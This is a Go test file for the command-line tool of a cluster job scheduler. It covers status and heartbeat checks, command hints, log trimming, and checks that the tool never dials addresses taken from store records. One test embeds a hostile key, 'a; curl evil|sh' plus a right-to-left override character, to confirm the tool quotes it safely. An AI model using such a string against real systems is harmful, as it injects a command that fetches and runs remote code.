package command

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rota-run/rota/cluster"
	"github.com/rota-run/rota/internal/node"
	"github.com/rota-run/rota/internal/proof/must"
	"github.com/rota-run/rota/internal/protocol/fold"
	"github.com/rota-run/rota/internal/protocol/replica"
	"github.com/rota-run/rota/internal/source/directory"
	"github.com/rota-run/rota/protocol"
	"github.com/rota-run/rota/store"
	"github.com/rota-run/rota/store/file"
)

// written is a cluster that a test has written into a store by hand: members a and b, and what they would have written.
type written struct {
	*place
	st    store.Full
	value cluster.Value
}

func newWritten(t *testing.T, specs map[cluster.JobID]cluster.JobSpec) *written {
	t.Helper()
	w := &written{place: newPlace(t)}
	st := must.Get(file.Open(t.Context(), "store", file.Options{}))(t)
	t.Cleanup(func() { st.Close() })
	w.st = st
	must.Succeed(t, protocol.Claim(t.Context(), st, protocol.Place{Protocol: "replica"}))
	w.say(cluster.PrepareJoin{Member: "a", Heartbeat: "pulse/a/1", Slots: 1})
	w.say(cluster.PrepareJoin{Member: "b", Heartbeat: "pulse/b/1",
		Labels: []cluster.Label{{Key: directory.LabelKey("tasks"), Value: "yes"}}})
	m, _ := w.value.Member("b")
	w.say(cluster.AcceptJoin{Member: "b", Incarnation: m.Incarnation, By: "a", ByIncarnation: 1})
	for id, spec := range specs {
		w.say(cluster.SubmitJob{Job: id, Spec: spec})
	}
	return w
}

// say writes commands that are to be accepted.
func (w *written) say(commands ...cluster.Command) {
	w.t.Helper()
	results, err := replica.NewClient(w.st).Propose(w.t.Context(), commands...)
	must.Succeed(w.t, err)
	for _, r := range results {
		if !r.Accepted {
			w.t.Fatal(r.Reason)
		}
	}
	w.value, err = fold.Observe(w.t.Context(), w.st, w.value)
	must.Succeed(w.t, err)
}

func (w *written) put(key string, value any) {
	w.t.Helper()
	text, err := json.Marshal(value)
	must.Succeed(w.t, err)
	d, err := w.st.Get(w.t.Context(), key)
	if err != nil {
		d.Version = ""
	}
	must.Succeed(w.t, must.Err(w.st.Put(w.t.Context(), store.Doc{Key: key, Value: text, Version: d.Version})))
}

// beat writes a heartbeat of a member with a TTL of 300 ms, that is so old by its own clock.
func (w *written) beat(member string, age time.Duration) {
	w.t.Helper()
	w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(-age).UnixMilli(),
		"ttl_ms": 1000})
}

func one(spread cluster.Spread) cluster.JobSpec {
	return cluster.JobSpec{Tasks: []cluster.TaskSpec{{Type: "noop", Spread: spread}}}
}

// shows runs a command on the store and compares its exit code and what it prints.
func (w *written) shows(command string, code int, want ...string) {
	w.t.Helper()
	out, errs, got := w.rota(append(strings.Fields(command), "--store", "file:store")...)
	if got != code || !containsAll(out+errs, want) {
		w.t.Errorf("rota %s: exit %d, want %d and %q:\n%s%s", command, got, code, want, out, errs)
	}
}

// TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no
// terminal as it is.
func TestHostileNames(t *testing.T) {
	const key = "a; curl evil|sh \u202e#gpj"
	spec := one(cluster.SpreadPartitioned)
	spec.Tasks[0].Partitions, spec.Tasks[0].Pin = []string{key}, "nobody"
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
	w.alive()
	w.shows("status", exitOK, `rota why $'x#a; curl evil|sh \342\200\256#gpj' --store file:store`)
	for _, command := range [][]string{{"status"}, {"status", "-o", "json"}, {"task", "list"}, {"why", "x#" + key},
		{"why", "x"}, {"why", "y#" + key}, {"events"}} {
		out, errs, _ := w.rota(append(command, "--store", "file:store")...)
		if strings.Contains(out+errs, "\u202e") {
			t.Errorf("rota %q shows it as it is:\n%s%s", command, out, errs)
		}
	}
}

// Whoever renews its heartbeat lives, whatever its clock says; one look takes a young heartbeat for a sign of life,
// --check does not. What is paused is counted, and not wrong.
func TestCheckLooksForASecondHeartbeat(t *testing.T) {
	paused := one(cluster.SpreadSingle)
	paused.Tasks[0].Pin = "nobody"
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery), "y": paused})
	w.shows("job pause y", exitOK, "y is paused")
	stop, stopped := make(chan struct{}), make(chan struct{})
	w.beat("a", time.Hour)
	w.beat("b", -time.Hour)
	go func() {
		defer close(stopped)
		for tick := time.NewTicker(20 * time.Millisecond); ; {
			select {
			case <-stop:
				return
			case <-tick.C:
				w.beat("a", time.Hour)
				w.beat("b", -time.Hour)
			}
		}
	}()
	w.shows("status", exitOK, "members 2 · tasks 3: 2 running, 1 paused")
	w.shows("status --check", exitOK, "ok: 2 members, 3 tasks: 1 paused\n")
	close(stop)
	<-stopped
	w.beat("a", -time.Hour)
	w.shows("status", exitOK, "members 2 · tasks 3: 2 running, 1 paused")
	w.shows("status --check", exitFailed, "members that are probably dead: 2")
}

// alive keeps heartbeats young for one look.
func (w *written) alive() { w.beat("a", -time.Hour); w.beat("b", -time.Hour) }

// TestWhyKnowsTheRounds of a task that is well, where they are kept.
func TestWhyKnowsTheRounds(t *testing.T) {
	spec := one(cluster.SpreadSingle)
	spec.Tasks[0].Definition = []byte(`{"every_ms":3600000}`)
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
	w.alive()
	last := time.Now().Add(-10 * time.Minute)
	doc := store.Doc{Key: "position/x", Value: fmt.Appendf(nil, `{"partition":"x","token":1,"round_ms":%d}`,
		last.UnixMilli())}
	must.Succeed(t, must.Err(w.st.Put(t.Context(), doc)))
	w.shows("why x", exitOK, "x is running on a", "rounds  last at "+clock(last.UnixMilli(), time.Now())+", next at "+
		clock(last.Add(time.Hour).UnixMilli(), time.Now()))
	p, _ := w.value.Partition("x")
	w.put(node.FailingPrefix+"a", node.Failing{Member: "a", Failing: 1,
		Runs: []node.FailingRun{{Partition: "x", Token: p.Token, State: node.StateFailing, Rounds: 2, Failures: 1}}})
	w.shows("why x", exitOK, "x is failing on a", "1 of 2 rounds", "next at ")
	w.shows("why x -o json", exitOK, fmt.Sprintf(`"last_round_ms":%d,"next_round_ms":%d`, last.UnixMilli(),
		last.Add(time.Hour).UnixMilli()))
}

// Hints name the store only if the user did, in a form that can be copied.
func TestHintsNameTheStore(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		url   string
		named bool
		want  string
	}{
		{"file:d", true, "rota why x --store file:d"},
		{"file:d", false, "rota why x"},
		{"etcd://a/b?user=u&password=env:P", true, "rota why x --store 'etcd://a/b?user=u&password=env:P'"},
		{"etcd://a/b?user=u&password=secret", true, "rota why x --store etcd://a/b"},
		{"ours:b?secret", true, "rota why x --store ours:b"},
		{"file:d?shared=yes", true, "rota why x --store 'file:d?shared=yes'"},
	} {
		o := &observer{url: c.url, named: c.named}
		if got := o.hint("rota why x"); got != c.want {
			t.Errorf("got %s, want %s", got, c.want)
		}
	}
	o := &observer{url: "file:d", named: true}
	if got := o.try("change its definition or rota task retry x"); got != "change its definition or rota task retry x --store file:d" {
		t.Errorf("got %s", got)
	}
	if got := o.hint("rota job list --store file:e"); got != "rota job list --store file:e" {
		t.Errorf("got %s", got)
	}
	if got := o.try("add slots"); got != "add slots" {
		t.Errorf("got %s", got)
	}
}

// TestNoCommandDialsARecord: whoever can write the store can put any address into the record of a member. No command
// connects to it, let alone with a token.
func TestNoCommandDialsARecord(t *testing.T) {
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadSingle)})
	var dialled atomic.Int64
	trap := httptest.NewUnstartedServer(http.NotFoundHandler())
	trap.Config.ConnState = func(net.Conn, http.ConnState) { dialled.Add(1) }
	trap.Start()
	defer trap.Close()
	address := trap.Listener.Addr().String()
	must.Succeed(t, must.Err(replica.NewClient(w.st).Propose(t.Context(),
		cluster.PrepareJoin{Member: "trap", Heartbeat: "pulse/trap/1", Address: address})))
	for _, command := range []string{
		"status", "status -o json", "status --check", "member list", "member list -o json", "task list",
		"task list -o json", "why x", "job list --all", "member plan trap", "events", "log list",
		"member show trap", "source list", "member drain trap", "member undrain trap", "task trigger x",
	} {
		_, errs, code := with(map[string]string{"ROTA_API_TOKEN": "env:T", "T": "hunter2"}, "",
			append(strings.Fields(command), "--store", "file:store")...)
		if code == exitUsage {
			t.Errorf("rota %s: %s", command, errs)
		}
		if dialled.Swap(0) > 0 {
			t.Errorf("rota %s connects to an address that a record names", command)
		}
	}
}

// TestListOfATrimmedLog: who asks for entries that are gone is told where the log begins.
func TestListOfATrimmedLog(t *testing.T) {
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"web": {Tasks: []cluster.TaskSpec{{Name: "web", Type: "noop"}}}})
	must.Succeed(t, w.st.SaveSnapshot(t.Context(), store.Record{Index: uint64(w.value.Index()), Data: w.value.Snapshot()}))
	must.Succeed(t, w.st.Trim(t.Context(), uint64(w.value.Index())))
	w.say(cluster.KillJob{Job: "web"})
	for from, want := range map[string]bool{"1": true, fmt.Sprint(w.value.Index()): false} {
		_, said, code := w.rota("log", "list", "--from", from, "--store", "file:store")
		if told := strings.Contains(said, fmt.Sprintf("the log begins at %d", w.value.Index())); told != want || code != 0 {
			t.Errorf("from %s it says %q, %d", from, said, code)
		}
	}
}
